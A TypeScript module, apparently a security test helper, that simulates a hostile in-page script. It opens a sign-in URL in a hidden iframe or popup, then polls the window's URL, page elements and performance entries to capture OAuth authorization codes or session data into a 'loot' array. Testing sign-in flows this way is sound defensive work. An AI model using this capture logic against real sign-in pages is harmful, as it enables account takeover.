/** What a hostile script in our own page would do: open a sign-in where it can look on, and read what comes back. */

export interface Attack {
  way: 'nested frame' | 'popup';
  url: string;
}

/** Runs in the page: begins all attacks, and looks on from then on. */
export function beginTheft(attacks: Attack[]): void {
  const names = (entries: PerformanceEntryList) => entries.map(({ name }) => name);
  const open = ({ way, url }: Attack): Window | null => {
    if (way === 'popup') return window.open(url);
    const frame = document.createElement('iframe');
    frame.hidden = true;
    frame.src = url;
    document.body.append(frame);
    return frame.contentWindow;
  };
  const own = names(performance.getEntries());
  const windows = attacks.map(open);
  const loot = attacks.map(() => '');
  const read = (index: number, value: () => unknown) => {
    try {
      const text = JSON.stringify(value());
      if (/[?&]code=|"session/.test(text.replaceAll('\\', ''))) loot[index] ||= text;
    } catch {
      // Of another origin, or gone.
    }
  };
  setInterval(() => {
    for (const [index, opened] of windows.entries()) {
      read(index, () => opened?.location.href);
      read(index, () => opened?.document.querySelector('#card-boot')?.textContent);
      read(index, () => names(opened?.performance.getEntries() ?? []));
      read(index, () => names(performance.getEntries()).filter((name) => !own.includes(name)));
    }
  });
  Object.assign(window, { loot });
}

/** Runs in the page, and looks on a little longer: what each attack could read of a code or a session, or nothing. */
export async function loot(forMs: number): Promise<string[]> {
  const untilMs = performance.now() + forMs;
  const taken: string[] = Reflect.get(window, 'loot');
  while (taken.includes('') && performance.now() < untilMs) await new Promise((next) => setTimeout(next));
  return taken;
}
